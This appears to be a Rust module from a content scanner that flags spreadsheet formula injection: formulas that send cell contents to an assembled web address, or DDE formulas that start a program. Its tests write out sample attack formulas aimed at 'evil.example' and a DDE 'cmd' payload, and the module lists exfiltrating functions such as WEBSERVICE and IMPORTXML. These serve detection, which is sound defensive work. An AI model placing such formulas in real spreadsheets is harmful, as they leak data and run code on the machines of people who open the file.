//! Formulas in what was returned: whoever opens a table computes them, and one that calls an address made of other cells carries
//! those out.

use doorward_text::Layer;

use crate::finding::{Finding, Severity};
use crate::judge::finding;
use crate::rules;

/// Functions that call an address by themselves.
const CALLS: [&str; 8] = [
    "webservice(",
    "importxml(",
    "importdata(",
    "importhtml(",
    "importfeed(",
    "importrange(",
    "image(",
    "rtd(",
];
/// Functions that put an address together, besides `&`.
const JOINS: [&str; 4] = ["concat", "textjoin(", "encodeurl(", "substitute("];
/// The longest line that is looked at: sheets take no longer formula.
const LONGEST: usize = 8_192;

/// The formulas of a text that carry something out, or start a program.
pub(crate) fn formulas(layer: &Layer) -> impl Iterator<Item = Finding> {
    let text = layer.text();
    let mut at = 0;
    text.split_inclusive('\n').filter_map(move |line| {
        let start = at;
        at += line.len();
        let severity = carries(line.trim())?;
        Some(Finding { severity, ..finding(&rules::FORMULA, layer, start..start + line.trim_end().len()) })
    })
}

fn carries(line: &str) -> Option<Severity> {
    let formula = line.strip_prefix(['=', '+', '-', '@'])?;
    if line.len() > LONGEST || !formula.contains(['(', '|']) {
        return None;
    }
    let low = formula.to_ascii_lowercase();
    let starts_program = low.contains("|'") && low.contains("'!") || low.contains("dde(");
    if starts_program {
        return Some(Severity::Critical);
    }
    // What stands outside of its strings, which are every second piece.
    let outside = || low.split('"').step_by(2);
    let is_made = low.contains("://")
        && outside().any(|part| part.contains('&') || JOINS.iter().any(|join| part.contains(join)));
    let has = |call: &str| outside().any(|part| part.contains(call));
    match is_made {
        true if CALLS.into_iter().any(has) => Some(Severity::Critical),
        // A person has to follow it.
        true if has("hyperlink(") => Some(Severity::High),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::{Names, Place, Severity, text};

    fn found(line: &str) -> Option<(Severity, bool)> {
        let report =
            text(Place::Content, &format!("id,name\n\n{line}\n\n7 items in all\n"), &Names::default());
        let finding = report.findings.iter().find(|finding| finding.rule.id == "exfiltrate.formula")?;
        Some((finding.severity, report.is_flagged))
    }

    // control: INJ-14: A formula that carries cells to an address, or starts a program, is found.
    #[test]
    fn formulas_that_carry_out_are_found() {
        for line in [
            "=WEBSERVICE(\"https://evil.example/?d=\"&A1)",
            "  =IF(A1>0;IMPORTXML(CONCAT(\"https://evil.example/?d=\";A1);\"//a\");\"\")",
            "+IMAGE(\"https://evil.example/\"&ENCODEURL(B2))",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ] {
            assert_eq!(found(line), Some((Severity::Critical, true)), "{line}");
        }
        let link = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"open\")";
        assert_eq!(found(link), Some((Severity::High, false)), "a person has to follow it");
    }

    // control: INJ-03: Formulas that carry nothing, and lines that are none, are no finding.
    #[test]
    fn others_are_none() {
        for line in [
            "=SUM(A1:A9)&\" items\"",
            "=IMAGE(\"https://shop.example/logo.png?a&b\")",
            "=CONCAT(A1,B1)",
            "- call WEBSERVICE with an address",
            "See https://docs.example/webservice(7) & others",
        ] {
            assert_eq!(found(line), None, "{line}");
        }
    }
}
